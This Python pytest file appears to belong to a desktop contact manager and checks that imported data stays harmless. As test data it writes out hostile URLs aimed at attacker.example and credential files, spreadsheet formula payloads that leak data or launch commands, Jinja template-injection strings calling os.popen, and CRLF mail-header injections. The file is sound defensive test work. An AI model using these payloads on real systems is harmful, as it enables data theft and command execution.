"""Data cannot hurt: hostile links, spreadsheet formulas, template code in data, header injection, odd secrets.

Everything here comes from imports or other people (a LinkedIn export, a vCard, a CSV, a
shared archive), so each test feeds the hostile form and checks what a user would notice.
"""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, unquote, urlsplit

import pytest

from desktop.core import links, people, rekey, unlock
from desktop.core.reconnect import drafts
from desktop.core.reconnect.drafts import TemplateProblem
from desktop.store import encryption
from desktop.store.database import close_database
from tests.cli.conftest import Rebound
from tests.memory_keyring import install_memory_keyring

# ---------------------------------------------------------------- links: only http, https and mailto

HOSTILE_URLS = [
    "javascript:alert(document.cookie)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x00javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "file://C:/Windows/System32/calc.exe",
    "FILE:///home/jana/.ssh/id_rsa",
    "smb://attacker.example/share/payload.exe",
    "\\\\attacker.example\\share\\payload.exe",
    "ftp://ftp.example.com/file",
    "sftp://host/file",
    "ms-officecmd:open?url=evil",
    "vscode://file/etc/passwd",
    "search-ms:query=evil",
    "steam://run/12345",
    "jar:file:///tmp/x.jar!/",
    "https:evil.example",  # no host
    "http:///no-host",
    "https://",
    "//evil.example/path",  # scheme-relative
    "www.example.com/no-scheme",
    "https://bank.example@evil.example/login",  # user info hides the real host
    "https://evil.example:99999/",  # not a port
    "https://exa mple.com/",
    "https://example.com/\u202egnp.exe",  # right-to-left override
    "https://exa\u200bmple.com/",  # zero-width space
    "mailto:",
    "mailto:not-an-address",
    "mailto:a@example.com,b@example.com",  # a second recipient
    "mailto:a@example.com?bcc=spy@evil.example",
    "mailto:a@example.com?cc=spy@evil.example&subject=hi",
    "mailto:a@example.com%0ABcc:spy@evil.example",
    "",
    None,
]
SAFE_URLS = [
    "https://www.linkedin.com/in/tomweber",
    "http://acme.example/jobs/17?utm=x#top",
    "HTTPS://ACME.EXAMPLE/",
    "https://xn--bcher-kva.example/",
    "https://acme.example:8443/careers",
    "mailto:tom.weber@acme.example",
    "mailto:tom@acme.example?subject=Hello%20Tom&body=Hi%0D%0Athere",
]


@pytest.mark.parametrize("url", HOSTILE_URLS, ids=repr)
def test_hostile_urls_are_never_opened(url: str | None) -> None:
    assert links.safe_url(url) is None
    assert not links.may_open(url)
    assert links.web_url(url) is None


@pytest.mark.parametrize("url", SAFE_URLS)
def test_ordinary_urls_are_opened(url: str) -> None:
    assert links.safe_url(url) == url.strip()


def test_a_profile_link_must_be_a_web_link() -> None:
    assert links.web_url("mailto:tom@acme.example") is None
    assert links.web_url(" https://www.linkedin.com/in/tomweber ") == "https://www.linkedin.com/in/tomweber"


@pytest.mark.parametrize(
    "address",
    ["a@example.com?bcc=spy@evil.example", "a@example.com,b@example.com", "a@example.com\r\nBcc: spy@evil.example",
     "a@example.com&cc=spy@evil.example", "<a@example.com>", "no-at-sign", ""],
)  # fmt: skip
def test_a_mail_link_is_built_for_one_plain_address_only(address: str) -> None:
    assert links.mail_url(address, "Hi", "Body") is None


def test_subject_and_body_cannot_add_headers_to_a_mail_link() -> None:
    url = links.mail_url("tom@acme.example", "Hi & bcc=spy@evil.example", "Line 1\nLine 2 &cc=spy@evil.example")
    assert url is not None and links.safe_url(url) == url
    parts = urlsplit(url)
    fields = parse_qs(parts.query)
    assert unquote(parts.path) == "tom@acme.example"
    assert set(fields) == {"subject", "body"}
    assert fields["subject"] == ["Hi & bcc=spy@evil.example"]
    assert fields["body"] == ["Line 1\r\nLine 2 &cc=spy@evil.example"]


# ---------------------------------------------------------------- CSV export: formulas stay text

FORMULAS = {
    "name": '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
    "title": "@SUM(1+1)*cmd|' /C calc'!A0",
    "company": "+cmd|' /C calc'!A0",
    "location": "-2+3+cmd|' /C calc'!A0",
    "notes": "=1+1 (notes are stored trimmed)",
}


def test_a_csv_export_neutralises_formula_cells(
    capsys: pytest.CaptureFixture[str], db_path: Path, tmp_path: Path
) -> None:
    rebound = Rebound(capsys, db_path, tmp_path)
    rebound("people")  # create the database
    from desktop.store.database import open_sqlite

    open_sqlite(rebound.db_path)
    people.create_person({**FORMULAS, "email": "formula@evil.example", "tags": ["=1+2"]})
    close_database()
    target = tmp_path / "people.csv"
    result = rebound("export", "csv", target)
    assert result.code == 0, result.err  # a missing CSV export fails here (it never skips)

    with target.open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    for value in [*FORMULAS.values(), "=1+2"]:
        assert value not in cells, f"{value!r} would run as a formula"
        assert any(value in cell for cell in cells), f"{value!r} was lost"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


# ---------------------------------------------------------------- templates: data is never code


def _variables(**hostile: str) -> dict[str, Any]:
    values: dict[str, Any] = {name: "x" for name in drafts.VARIABLES}
    values.update(limit=300, **hostile)
    return values


@pytest.mark.parametrize(
    "name",
    [
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{% for i in range(10**9) %}x{% endfor %}",
        "{{ 7*7 }}",
        "{{ config }}{{ self }}{{ lipsum.__globals__ }}",
    ],
)
def test_template_syntax_in_data_is_shown_as_it_is(name: str) -> None:
    draft = drafts.render_text("Subject: Hello {{ first_name }}\nDear {{ name }},\nbye", _variables(name=name,
                               first_name=name))  # fmt: skip
    assert draft.subject == f"Hello {name}"
    assert name in draft.body
    assert draft.body == f"Dear {name},\nbye"  # shown as typed: "{{ 7*7 }}" stays, never "49"


@pytest.mark.parametrize(
    "template",
    [
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].system('id') }}",
        "{{ name.__class__.__base__.__subclasses__() }}",
        "{{ name|attr('__class__') }}",
        "{{ ().__class__.__bases__[0].__subclasses__() }}",
        "{{ '{0.__class__.__mro__}'.format(name) }}",
        "{{ '{x.__class__}'.format_map({'x': name}) }}",
        "{{ (name * 1000) * 1000 }}",
        "{% for a in range(5000) %}{% for b in range(5000) %}{% endfor %}{% endfor %}",
    ],
)
def test_hostile_templates_are_refused(template: str) -> None:
    with pytest.raises(TemplateProblem):
        drafts.render_text(template, _variables(name="Tom"))


# ---------------------------------------------------------------- mail: data cannot add headers or recipients


def test_a_name_or_subject_with_line_breaks_cannot_add_recipients(db: object, monkeypatch: pytest.MonkeyPatch) -> None:
    from desktop import mail
    from tests.smtp_server import PASSWORD, USER, SmtpServer

    install_memory_keyring(monkeypatch)
    victim = people.create_person({"name": "Tom\r\nBcc: spy@evil.example", "email": "tom@acme.example"}).value
    with SmtpServer() as server:
        account = mail.MailAccount(host="127.0.0.1", port=server.port, user=USER, sender=USER, security="none")
        mail.send_to_person(victim, "Hello\r\nBcc: spy2@evil.example\r\n\r\nInjected body", "The real body",
                            datetime(2026, 3, 2, 9, 0), settings=account, password=PASSWORD)  # fmt: skip
    (received,) = server.received
    assert received.recipients == ["tom@acme.example"]
    assert received.message["Bcc"] is None
    assert "\n" not in received.message["Subject"] and "spy2" in received.message["Subject"]
    assert received.message.get_payload().strip() == "The real body"


# ---------------------------------------------------------------- secrets and paths with quotes


def test_a_passphrase_with_quotes_and_sql_is_just_a_passphrase(tmp_path: Path) -> None:
    import keyring
    from keyring.backends import fail

    from desktop import secrets

    keyring.set_keyring(fail.Keyring())
    secrets.reset()
    url = f"sqlite:///{tmp_path / 'r.db'}"
    passphrase = "it's a \"quoted\"'; PRAGMA key = ''; --"
    unlock.open_unlocked(url, encrypt=True, ask_secret=lambda purpose, path: passphrase)
    people.create_person({"name": "Tom Weber"})
    close_database()
    assert encryption.file_state(tmp_path / "r.db") == "encrypted"
    unlock.open_unlocked(url, ask_secret=lambda purpose, path: passphrase)
    assert [p.name for p in people.list_people()] == ["Tom Weber"]
    close_database()


def test_a_database_path_with_quotes_can_be_encrypted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    install_memory_keyring(monkeypatch)
    folder = tmp_path / "O'Brien's \"CRM\""
    url = f"sqlite:///{folder / 'my db.db'}"
    unlock.open_unlocked(url, encrypt=False)
    people.create_person({"name": "Tom Weber"})
    close_database()
    rekey.encrypt_database(url)
    unlock.open_unlocked(url)
    assert [p.name for p in people.list_people()] == ["Tom Weber"]
    close_database()
